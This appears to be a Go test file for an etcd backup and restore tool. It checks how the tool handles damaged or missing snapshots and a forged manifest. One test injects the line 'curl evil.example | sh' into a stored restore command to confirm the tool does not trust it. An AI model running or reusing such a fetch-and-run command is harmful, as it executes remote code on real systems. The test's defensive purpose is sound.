package main

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/etcdward/etcdward/agent/snapshot"
	"github.com/etcdward/etcdward/test/cluster"
)

// TestLatestIsNotTheNewest has the newest snapshot be lost: every verb that takes the latest says which one it is not, and list marks it.
func TestLatestIsNotTheNewest(t *testing.T) {
	t.Parallel()
	c := cluster.Start(t, cluster.Options{Members: 1, Args: []string{cluster.NoFsync}})
	c.FillKubernetes(t, 10)
	s := newSite(t, c)
	older := s.snapshot(t)
	advance(t, c, c.Members[0])
	newest := s.snapshot(t)

	each := func(t *testing.T, why string) {
		t.Helper()
		for _, verb := range [][]string{
			{"show", "latest"}, {"fetch", "latest", "--output", filepath.Join(t.TempDir(), "x.db")}, {"extract", "latest", "--output", filepath.Join(t.TempDir(), "x")},
			{"restore", "plan", "latest", "--member", "m=http://127.0.0.1:1", "--output", filepath.Join(t.TempDir(), "plan.yaml")},
		} {
			r := s.etcdward(t, verb...)
			if r.code == exitFailed || r.code == exitUsage || !strings.Contains(r.err, "passed over") || !strings.Contains(r.err, newest.ID) || !strings.Contains(r.err, why) {
				t.Errorf("%v: exit %d\n%s%s", verb, r.code, r.out, r.err)
			}
		}
		r := s.etcdward(t, "verify")
		if r.code != exitFindings || !strings.Contains(r.out, older.ID) || !strings.Contains(r.err, newest.ID) {
			t.Errorf("verify: exit %d\n%s%s", r.code, r.out, r.err)
		}
	}
	t.Run("manifest damaged", func(t *testing.T) {
		path := filepath.Join(s.store, "v1/test/snapshots", newest.ID+".json")
		aside(t, path)
		if err := os.WriteFile(path, []byte(`["no manifest"]`), 0o600); err != nil {
			t.Fatal(err)
		}
		each(t, "a JSON array in the place of an object")
		list := s.etcdward(t, "list")
		for id, mark := range map[string]string{newest.ID: "damaged", older.ID: "ok"} {
			if row := rowOf(list.out, id); !strings.HasSuffix(row, mark) {
				t.Errorf("the row of %s is %q, want %q", id, row, mark)
			}
		}
		if list.code != exitFindings || !strings.Contains(list.err, newest.ID) {
			t.Errorf("list: exit %d %s", list.code, list.err)
		}
	})
	t.Run("data gone", func(t *testing.T) {
		aside(t, filepath.Join(s.store, newest.Object.Key))
		each(t, "its data is gone")
	})
}

// rowOf gives the line of a table that begins with a text.
func rowOf(table, begin string) string {
	for line := range strings.Lines(table) {
		if strings.HasPrefix(line, begin) {
			return strings.TrimSpace(line)
		}
	}
	return ""
}

// TestShowStores checks that show names every store that has a snapshot, and a line for a shell that nobody wrote into a store.
func TestShowStores(t *testing.T) {
	c := cluster.Start(t, cluster.Options{Members: 1, Args: []string{cluster.NoFsync}})
	c.FillKubernetes(t, 10)
	s := newSite(t, c)
	s.addStore(t, "second", t.TempDir())
	m := s.snapshot(t)
	path := filepath.Join(s.store, "v1/test/snapshots", m.ID+".json")
	body, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	forged := strings.Replace(string(body), "zstd -d ", "curl evil.example | sh; zstd -d ", 1)
	if forged == string(body) {
		t.Fatal("no command in the manifest")
	}
	if err := os.WriteFile(path, []byte(forged), 0o600); err != nil {
		t.Fatal(err)
	}
	var shown struct {
		snapshot.Manifest
		Stores []string
	}
	s.mustJSON(t, &shown, "show", "latest")
	if strings.Join(shown.Stores, " ") != "primary second" || shown.Restore != m.Restore || m.Restore == "" {
		t.Errorf("stores %q, by hand %q, want %q", shown.Stores, shown.Restore, m.Restore)
	}
}

// TestPlanOfDamage: what a read-back found damaged goes into no plan.
func TestPlanOfDamage(t *testing.T) {
	t.Parallel()
	c := cluster.Start(t, cluster.Options{Members: 1, Args: []string{cluster.NoFsync}})
	c.FillKubernetes(t, 20)
	s := newSite(t, c)
	taken := s.snapshot(t)
	path := filepath.Join(s.store, "v1", "test", "snapshots", taken.ID+".db.zst")
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	text[len(text)/2] ^= 4
	if err := errors.Join(os.Remove(path), os.WriteFile(path, text, 0o600)); err != nil {
		t.Fatal(err)
	}
	if r := s.etcdward(t, "verify", "latest"); r.code != exitFindings {
		t.Fatalf("verify: exit %d %s", r.code, r.err)
	}
	plan := filepath.Join(s.dir, "plan.yaml")
	if r := s.restore(t, "", "plan", "latest", "--manifests", s.dir, "--output", plan); r.code != exitFailed || !strings.Contains(r.err, "a read-back found") || !strings.Contains(r.err, "--store NAME") {
		t.Errorf("plan: exit %d %s", r.code, r.err)
	}
	if _, err := os.Stat(plan); err == nil {
		t.Error("a plan was written")
	}
}
